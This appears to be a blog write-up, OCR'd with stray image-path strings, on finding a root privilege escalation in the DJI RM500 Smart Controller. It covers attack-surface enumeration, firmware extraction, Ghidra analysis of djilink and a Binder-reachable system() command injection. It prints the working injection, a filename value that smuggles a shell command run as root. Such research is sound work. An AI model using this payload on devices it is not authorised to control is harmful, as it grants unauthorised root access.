Local Privilege Escalation on the DJI RM500 Smart Controller

Willem Melching
Aug 6, 2023


This research is about the DJI RM500 Smart Controller. It's the remote sold with with the DJI Mini 2, Mavic Air 2, Mavic 2 Series and Air 2S. It was released in 2019 but is now discontinued and no longer sold or supported by DJI. It received it's latest update in October 2022 and runs Android 7.1.2 (Linux 4.4.83) on a Rockchip RK3399. It can run user supplied apps, and has a USB-A port for external peripherals. It also provides access to ADB to support debugging whendeveloping your own Android apps for the device.I was asked to look into this device to see if it could support a USB to Ethernet adapter in the USB host port, to improve connection reliability over the built in Wi-Fi. By running ifconfig -a using ADB shell after plugging in the adapter, we can see the adapter is recognized, but is not brought up by default. Trying to manually bring it up using ifconfig eth0 up is not allowed due to a lack of permissions for the default ADB shell user: ifconfig: ioctl 8914: Operation not permitted. For the adapter to work we need to be able to run commands as root.

This blog post will be about escalating our privileges from the default ADB shell user to root. This requires a physical connection to the remote, and accepting a pop-up on the Android side the first time we try to connect using ADB. I willdescribe most of the steps I took to find the exploit, some of them not strictly necessary, but they might still be interesting in case you want to perform your own research on DJI equipment.

First I'll look at possible attack surfaces. Then I'll analyze the most promising binary, djilink, in Ghidra and reverse engineer the communication through Binder. Finally, I'll use a command injection vulnerability to gain root privileges.

Picture of the DJI RM500 Smart Controller

Identifying the Attack Surface

First, we want to identify some possible attack servicessurfaces. The remote uses Android, so there must be some DJI specific stuff running on top of this to control the drone. I expect an Android app to run the GUI, and some native services to handle the proprietary joysticks/buttons and the radio to connect to the drone.

We will start by looking in userspace, but if no interesting things are found we can also look at some DJI specific kernel drivers to talk to the peripherals such as the radio or joysticks. Those should be provided by the manufacturer due to the GPL license of the Linux kernel. Unfortunately DJI seems to ignore this requirement and only has an outdated Open Source page with broken links. Luckily for this research we didn't need to look at the kernel. We'll look at open ports, running processes and available Binder services.

Open ports (netstat)

Using netstat -tulpn we can check for any services that have exposed ports on TCP or UDP. However, this didn't show anything interesting. There are some ports in the 4000X range, but we can't see what process owns them because we don't have root privileges.

rm500:/ $ netstat -tulpn
(Not all processes could be identified, non-owned process info
 will not be shown, you would have to be root to see it all.)
Active Internet connections (only servers)
Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program Name
tcp        0      0 *               LISTEN      -
tcp        0      0 *               LISTEN      -
tcp        0      0 *               LISTEN      -
tcp        0      0 *               LISTEN      -tcp        0      0*               LISTEN      1510/adb
udp        0      0 *                           -

Processes (ps)

Using ps we can look at all the running processes on the system. By looking for DJI specific processes we can identify /system/bin/djilink, /system/bin/dji_wms as two processes that run as root. We will be taking a closer look at those in the next section.

rm500:/ $ ps | grep -i dji
root      144   2     0      0              0 0000000000 S dji_bat_charge_
root      299   1     63296  11656          0 0000000000 S /system/bin/djilink
root      664   1     9004   1852           0 0000000000 S /system/bin/dji_wms
system    1127  301   1571732 76156          0 0000000000 S com.dji

Binder RPC (service)

Binder serves as a mechanism on Android for Inter Process Communication(IPC) and Remote Procedure Calls (RPC). For example, Binder can be used to communicate between apps and native services. Or between a system service with high privileges and a client program with low privileges. It can communicate simple messages, but also more complex objects such as shared memory buffers.

It's a very useful tool when developing complex Android applications. There is a nice command line utility called service that is used for interacting with Binder from the command line using the ADB shell. Using service list we can see all DJI specific Binder services that are used. Here we also see djilink pop up, so we will start by analyzing this service.


rm500:/ $ service list | grep -i dji
0   DJIBaseService: []
1   DJIService: []
83  protocol: [com.dji.protocol.IProtocolManager]
84  report: [com.dji.report.IReportManager]
108 djilink: [djilink]

Obtaining a Copy of the File System

If we are only interested in a few files such as /system/bin/djilink we can use adb pull to grab those files right of the device. But in case we need to widen our search it might be nice to have a full copy of the system. Luckily the update file for thewhole OS of the RM500 can be downloaded from DankDroneDownloader.

Dank Drone Downloader

The extension of the file we just downloaded (V01.01.0072_rm500_dji_system.bin) is .bin, but the file command line utility tells us that it's actually a POSIX tar archive. We can add the .tar extension and extract it.

$ tar -xvf V01.01.0072_rm500_dji_system.bin.tar --one-top-level
$ cd V01.01.0072_rm500_dji_system.bin
$ ls -Ggh
total 1.7G
-rw-r--r-- 1 1.7G Nov  4  2022 rm500_0205_v00.00.11.98_20221031.pro.fw.sig
-rw-r--r-- 1 106K Nov  4  2022 rm500_0600_v06.01.02.15_20210312.pro.fw.sig
-rw-r--r-- 1  25M Nov  4  2022 rm500_1301_v04.00.00.15_20210616.pro.fw.sig
-rw-r--r-- 1  22M Nov  4  2022 rm500_1407_v05.01.00.15_20220301.pro.fw.sig-rw-r--r-- 1 1.8K Nov  4  2022 rm500.cfg.sig

This results in a few files, of which only rm500_0205_v00.00.11.98_20221031.pro.fw.sig is large enough to contain the root filesystem. If we run binwalk on this file it tells us that this file contains lots of Zip archive data starting at byte 480.

$ binwalk rm500_0205_v00.00.11.98_20221031.pro.fw.sig

480           0x1E0           Zip archive data, at least v1.0 to extract, name: system.patch.dat
530           0x212           Zip archive data, at least v2.0 to extract, name: META-INF/com/android/metadata
732           0x2DC           Zip archive data, at least v2.0 to extract, name: META-INF/com/google/android/update-binary
649999        0x9EB0F         Zip archive data, at least v2.0 to extract, name: META-INF/com/google/android/updater-script
650625        0x9ED81         Zip archive data, at least v2.0 to extract, name: boot.img

We could try to strip the first 480 bytes, but it seems like unzip already handles this just fine. If we rename the file to rm500_0205_v00.00.11.98_20221031.pro.fw.sig.zip we can extract it:

$ unzip rm500_0205_v00.00.11.98_20221031.pro.fw.sig.zip
Archive:  rm500_0205_v00.00.11.98_20221031.pro.fw.sig.zip
signed by SignApk
warning [rm500_0205_v00.00.11.98_20221031.pro.fw.sig.zip]:  480 extra bytes atbeginning or within zipfile
  (attempting to process anyway)
 extracting: system.patch.dat
  inflating: boot.img
  inflating: system.new.dat
  inflating: system.transfer.list
  inflating: trust.img
  inflating: uboot.img

According to file, system.new.dat is an ext4 image, but trying to loopback mount it, doesn't work. It turns out that system.new.dat is a sparse file, and system.transfer.list contains instructions on how to reconstruct the original file. We can use sdat2img to build the proper ext4 image. It can be downloaded from GitHub, or simply installed from the Arch AUR. The resulting image be mounted and we can copy out /bin/djilink to analyze it further.

$ sdat2img system.transfer.list system.new.dat system.img
sdat2img binary - version: 1.2

Android Nougat 7.x / Oreo 8.x detected!

Skipping command erase...
Copying 1024 blocks into position 0...
Copying 683 blocks into position 1024...
Copying 143 blocks into position 1708...
Copying 198 blocks into position 1852...
Copying 639 blocks into position 2050...
Done! Output image: /home/willem/Downloads/V01.01.0072_rm500_dji_system.bin/system.img
$ mkdir mnt
$ sudo mount -o loop,ro system.img mnt

Analysis in Ghidra

In the previous steps we identified the djilink binary as an interesting target for our analysis, since it runs at root, exposes a Binder service, and might be the source of our mystery TCP ports in the 4000X range.By unpacking an OS update we extracted the binary to analyze it further in Ghidra. Loading the file into Ghidra is straightforward, and we use thedefault options and analysis settings.

Loading djilink in Ghidra

After loading the binary in Ghidra, we can start looking for some low hanging fruit. We don't have anything specific we are looking for yet, so we can go through some functions that are a likely source of mistakes such as system(), memcpy(), strcpy() etc.

system() Command Injection

We start by looking for all uses of the system() function, which is used to run an external shell command. This an easy way to run an external program, but you have to be very careful when using user provided data to build the command passed to the system() function. This is similar to needing to sanitize user inputs to prevent SQL injection.

Loading djilink in Ghidra

There are 42 places where the system() function is used, so it took some time to go through them and find a potential command injection. Sometimes it looks like user input is used when building the command, but then it turns out the data is not actually attacker controlled.

In a lot of places the system() function is used to perform simple file system operations, instead of the proper functions such as rename() and fprintf(). This is considered bad practice, therefore this seems promising for finding a potential exploit. An example of improper use of system() to write a timestamp to a log file:

Using system() to write contents to a fileAfter sifting through a bunch more of that, I found an interesting function displayed below. This function seems part of a factory testing procedure, and uses tinycap to make a recording using the microphone and writing the results to a filename that is passed to the function. This filename is used to build the command that is passed to system() and is not checked for special characters. If we put a ; in the filename we can inject a second shell command that also gets executed. The proper way to do this would be to use the execve() function, which has a separate argument for command line flags, which fixes the shell injection.

Function that uses system() starts tinycap

This function is called by a wrapper function that allows both starting and stopping a capture. Looking at the android_log_print function calls, the function is probably called setMicStatus. A pointer to this wrapper function is located in a lookup table at 0x001fe5c8. In turn, this lookup table is used in functions that have calls to libbinder.so. So maybe this function is meant to be called using a Binder RPC?Wrapper function that starts/stops tinycap

Calling setMicStatus Function using Binder

After some more digging on the filesystem I found libdjilink.so. This seems to be a helper library to easily call functions from djilink from external programs using Binder. By looking for the string setMicStatus, I quickly discovered a function called BpLinkService::setMicStatus that looks a lot like it calls the desired function in djilink.

Function from libdjilink.so that calls setMicStatus

It writes 4 integers and 1 string into a parcel, and then calls service 0x406 (1030 in decimal), which matches the arguments to the function in libdjilink we found earlier. Using the service command we can quickly verify if our assumptions are right. We can use adb logcat to keep eye on the logs. When we run service call djilink 1030 we notice a bunch of logs in logcat,after which djilink seems to crash and restart. It includes the following interesting bit:

08-06 17:25:40.095  1378  1405 E Parcel  : Reading a NULL string not supported here.
08-06 17:25:40.095  1378  1405 D LinkService: factorytest: setMicStatus 0
08-06 17:25:40.095  1378  1405 Dutils   : factorytest: Stop nProcess 0

From the logs itlooks like it tries to read a NULL string. It's outputting the log strings that we found earlier. Maybe it will work if we send the right arguments in the Binder parcel? If we match the code from libdjilink.so we need to send 4 Int322s followed by String16 for a filename. I'm not sure which integer stands for which argument, so I set them all to 1 to make sure we start the recording. We can do this with the following command: service call djilink 1030 i32 1 i32 1 i32 1 i32 1 s16 "/sdcard/test.wav". This results in the following logcat output:

08-06 17:29:52.830  1431  1431 D LinkService: factorytest: setMicStatus 1
08-06 17:29:52.830  1431  1431 D utils   : factorytest: cmd tinycap /sdcard/test.wav -D 0 -d 0 -i 1 -c 1 -r 48000 -b 16 -t 1
08-06 17:29:53.332  1431  1431 D utils   : factorytest: Started record of /sdcard/test.wav nProcess 1469

We can also confirm a 1 second audio file showed up in /sdcard and is owned by root. Interestinglythe file seems to be completely silent, so recording doesn't actually work. However, this means we can successfully call the setMicStatus function where we freely control the filename of the resulting file.

Building the Exploit

Now that we can call setMicStatus using the command line, we can try to exploit the potential command injection. As a reminder, the format string used to build the command is "tinycap %s -D 0 -d 0 -i %d -c %d -r 48000 -b 16 -t %d".

Here we freely control the first %s, where the total command needs to stay under 128 characters. If we set our filename to ";whoami > /sdcard/whoami;" the total command becomes "tinycap ;whoami > /sdcard/whoami; -D 0 -d 0 -i 1 -c 1 -r 48000 -b 16 -t 1" after filling in all the placeholders.

We can test this using service call djilink 1030 i32 1 i32 1 i32 2 i32 1 s16 ";whoami > /sdcard/whoami;". If we now print the contents of /sdcard/whoami we can see that our exploit actually works! We can run commands as root.

rm500:/ $ cat /sdcard/whoamiIn this post, I described the process of finding a privilege escalation to gain root from an ADB shell, by abusing some code that was meant for factory testing the peripherals in the remote. This allowed us to run ifconfig eth0 up as root and enable the Ethernet adapter, which worked fine after that. Fortunately, we could exploit the vulnerability with command line tools that were already present on the Android device, so we didn't need to fiddle with cross-compiler setups to build a payload.

